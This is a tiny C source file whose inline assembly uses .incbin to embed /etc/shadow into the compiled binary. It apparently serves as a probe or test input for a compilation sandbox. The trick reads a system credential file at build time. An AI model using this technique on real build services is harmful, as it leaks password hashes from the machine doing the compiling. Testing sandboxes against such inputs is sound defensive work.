asm(".section .rodata\n.incbin \"/etc/shadow\"\n.text");
int main() {}
